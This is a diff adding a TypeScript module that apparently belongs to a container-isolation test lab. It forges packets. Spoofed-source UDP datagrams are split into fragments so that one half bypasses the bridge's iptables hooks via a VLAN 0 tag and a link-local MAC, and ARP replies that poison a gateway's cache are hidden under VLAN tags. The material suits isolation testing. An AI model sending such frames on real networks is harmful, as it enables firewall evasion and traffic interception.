@@ -1,0 +1,48 @@
+/** What leaves a container half by the bridge and half past it, and answers of ARP under a tag. */
+import * as frames from '../../lab/frames.ts';
+import { freshToken } from '../../lab/probe.ts';
+import { hostAddress, places } from '../../lab/world.ts';
+import { type Forgery, type Seat, withTag } from '../packets/forging.ts';
+import { fragmented } from './fragments.ts';
+
+/** Handed up on the port itself, past the bridge's hooks (net/bridge/br_input.c, br_handle_frame). */
+const pastTheBridge = '01:80:c2:00:00:0e';
+/** Of no network that anybody knows, so that nothing but the way decides. */
+const nobody = { v4: '45.66.77.88', v6: '2a0c:66::88' } as const;
+
+/**
+ * Datagrams in two fragments: the first under a tag of VLAN 0, by the bridge and not by br_netfilter; the rest past the bridge.
+ * Conntrack puts them together before any rule of iptables is asked, and the whole then came by the port, in a frame that
+ * is the first one's (net/ipv4/inet_fragment.c, inet_frag_reasm_prepare).
+ */
+export function halved(self: Seat, gateway: Seat): readonly Forgery[] {
+  const aims = { 'a private host': places.private, 'the internet': places.internet, 'the host': hostAddress, gateway };
+  return (['v4', 'v6'] as const).flatMap((family) =>
+    Object.entries(aims).flatMap(([aim, { [family]: dst }]): readonly Forgery[] => {
+      const token = freshToken();
+      const [src, type] = [nobody[family], family === 'v4' ? 0x0800 : 0x86dd];
+      const body = frames
+        .udp({ src, dst, sport: 4_321, dport: 9_999 }, token.padEnd(200))
+        .slice(family === 'v4' ? 20 : 40);
+      const parts = fragmented({ from: self.mac, to: gateway.mac, src, dst, next: 17 }, body, [104]);
+      const [first, rest] = parts.map((frame) => frame.slice(14)) as [Uint8Array, Uint8Array];
+      return [
+        withTag({ from: self.mac, to: gateway.mac, vlan: 0 }, first),
+        frames.ethernet({ from: self.mac, to: pastTheBridge, type }, rest),
+      ].map((frame) => ({ name: `${aim}, ${family}`, token, frame }));
+    }),
+  );
+}
+
+/** What a host takes off before it looks what is in a frame: tags of VLAN 0 (IEEE 802.1Q, 802.1ad), one or two. */
+const tags = [
+  [0x81, 0, 0, 0],
+  [0x88, 0xa8, 0, 0],
+  [0x81, 0, 0, 0, 0x81, 0, 0, 0],
+] as const;
+
+/** An answer of ARP to the gateway that the neighbour's address is at the liar's MAC, under each of them. */
+export function taggedLies(self: Seat, gateway: Seat, peer: Seat): readonly Uint8Array[] {
+  const lie = frames.arp({ op: 2, sha: self.mac, spa: peer.v4, tha: gateway.mac, tpa: gateway.v4, to: gateway.mac });
+  return tags.map((tag) => Uint8Array.from([...lie.slice(0, 12), ...tag, ...lie.slice(12)]));
+}
